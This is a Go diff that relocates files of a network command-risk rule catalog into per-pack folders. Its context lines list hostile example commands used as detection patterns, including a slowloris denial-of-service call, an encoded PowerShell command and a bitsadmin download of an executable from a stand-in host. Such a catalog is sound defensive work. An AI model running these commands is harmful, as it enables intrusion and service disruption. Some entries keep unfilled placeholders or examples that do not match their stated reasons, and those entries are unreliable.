@@ -3,14 +3,14 @@ package rules
 // Catalog: network. Generated once from the corpora and then kept by hand;
 // see catalog.go for what an entry promises.
 
-var _ = declare("app/judge/rules/creds.go", func() []Entry {
+var _ = declare("app/judge/rules/packs/creds/creds.go", func() []Entry {
 	return []Entry{
 		Entry{ID: "remote.rundll32", Risk: 3, Category: "network", Reason: "runs remote or script code through rundll32",
 			Examples: []Example{{Command: "rundll32 http:"}}},
 	}
 })
 
-var _ = declare("app/judge/rules/everyday.go", func() []Entry {
+var _ = declare("app/judge/rules/packs/everyday/everyday.go", func() []Entry {
 	return []Entry{
 		Entry{ID: "net.<name>", Risk: 3, RedLine: true, Category: "network", Reason: "<name> copies files to or from another host",
 			Examples: []Example{{Command: "ngrok http 80"}, {Command: "pfctl -s rules"}, {Command: "ipconfig /release"}, {Command: "slowloris target.example.com"}}},
@@ -47,7 +47,7 @@ var _ = declare("app/judge/rules/everyday.go", func() []Entry {
 	}
 })
 
-var _ = declare("app/judge/rules/http.go", func() []Entry {
+var _ = declare("app/judge/rules/packs/everyday/http.go", func() []Entry {
 	return []Entry{
 		Entry{ID: "net.http-admin-action", Risk: 3, Category: "network", Reason: "calls <a> on a credential store: the secret is deleted or changed",
 			Examples: []Example{{Command: "curl -X POST http://jenkins.local/job/x/disable"}}},
@@ -66,7 +66,7 @@ var _ = declare("app/judge/rules/http.go", func() []Entry {
 	}
 })
 
-var _ = declare("app/judge/rules/interp.go", func() []Entry {
+var _ = declare("app/judge/rules/packs/interp/interp.go", func() []Entry {
 	return []Entry{
 		Entry{ID: "remote.ps-encoded", Risk: 2, Category: "network", Reason: "runs a base64-encoded PowerShell command (hidden from review)",
 			Examples: []Example{{Command: "powershell -EncodedCommand ZQBjAGgAbwAgAGgAaQA="}}},
@@ -75,14 +75,14 @@ var _ = declare("app/judge/rules/interp.go", func() []Entry {
 	}
 })
 
-var _ = declare("app/judge/rules/ops.go", func() []Entry {
+var _ = declare("app/judge/rules/packs/ops/ops.go", func() []Entry {
 	return []Entry{
 		Entry{ID: "net.sshpass", Risk: 1, Category: "network", Reason: "runs a command with a stored password",
 			Examples: []Example{{Command: "sshpass"}}},
 	}
 })
 
-var _ = declare("app/judge/rules/procs.go", func() []Entry {
+var _ = declare("app/judge/rules/packs/procs/procs.go", func() []Entry {
 	return []Entry{
 		Entry{ID: "net.accounts-read", Risk: 0, Category: "network", Reason: "shows the password policy",
 			Examples: []Example{{Command: "net accounts"}}},
@@ -107,7 +107,7 @@ var _ = declare("app/judge/rules/procs.go", func() []Entry {
 	}
 })
 
-var _ = declare("app/judge/rules/remote.go", func() []Entry {
+var _ = declare("app/judge/rules/packs/remote/remote.go", func() []Entry {
 	return []Entry{
 		Entry{ID: "remote.bitsadmin", Risk: 2, Category: "network", Reason: "downloads files in the background (can run a command when done)",
 			Examples: []Example{{Command: "bitsadmin /transfer j http://x/a.exe c:\\a.exe"}}},
@@ -153,7 +153,7 @@ var _ = declare("app/judge/rules/remotecopy.go", func() []Entry {
 	}
 })
 
-var _ = declare("app/judge/rules/resources.go", func() []Entry {
+var _ = declare("app/judge/rules/packs/resources/resources.go", func() []Entry {
 	return []Entry{
 		Entry{ID: "net.dos-tool", Risk: 3, RedLine: true, Category: "network", Reason: "runs a denial-of-service or wireless attack tool",
 			Examples: []Example{{Command: "slowloris target.example.com"}}},
@@ -170,7 +170,7 @@ var _ = declare("app/judge/rules/resources.go", func() []Entry {
 	}
 })
 
-var _ = declare("app/judge/rules/sysfiles.go", func() []Entry {
+var _ = declare("app/judge/rules/packs/sysfiles/sysfiles.go", func() []Entry {
 	return []Entry{
 		Entry{ID: "net.arp-change", Risk: 2, Category: "network", Reason: "changes the ARP table",
 			Examples: []Example{{Command: "arp --delete"}}},
